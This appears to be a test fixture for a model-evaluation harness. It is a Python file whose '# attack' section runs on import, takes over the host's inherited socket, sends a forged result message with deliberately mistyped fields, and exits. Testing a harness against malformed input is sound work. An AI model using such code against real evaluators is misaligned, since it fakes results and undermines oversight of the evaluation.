"""Answers with lists where tables are due, and numbers where texts are."""

# play: ladder

import json
import os
import socket
import stat
import struct

import torch
from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.scores = nn.Parameter(torch.randn(10))

    def forward(self, x):
        return self.scores.expand(x.shape[0], 10).clone()


# attack
def channel():
    """The socket to the host, found among its open descriptors."""
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return socket.socket(fileno=number)
        except OSError:
            pass
    os._exit(0)


def say(body):
    text = json.dumps({"body": body, "tensors": []}).encode()
    channel().sendall(struct.pack("<4sIQ", b"NMF1", len(text), 0) + text)


say({"result": {"document": [], "outcomes": 3, "findings": 7, "described": "x"}})
os._exit(0)
# end
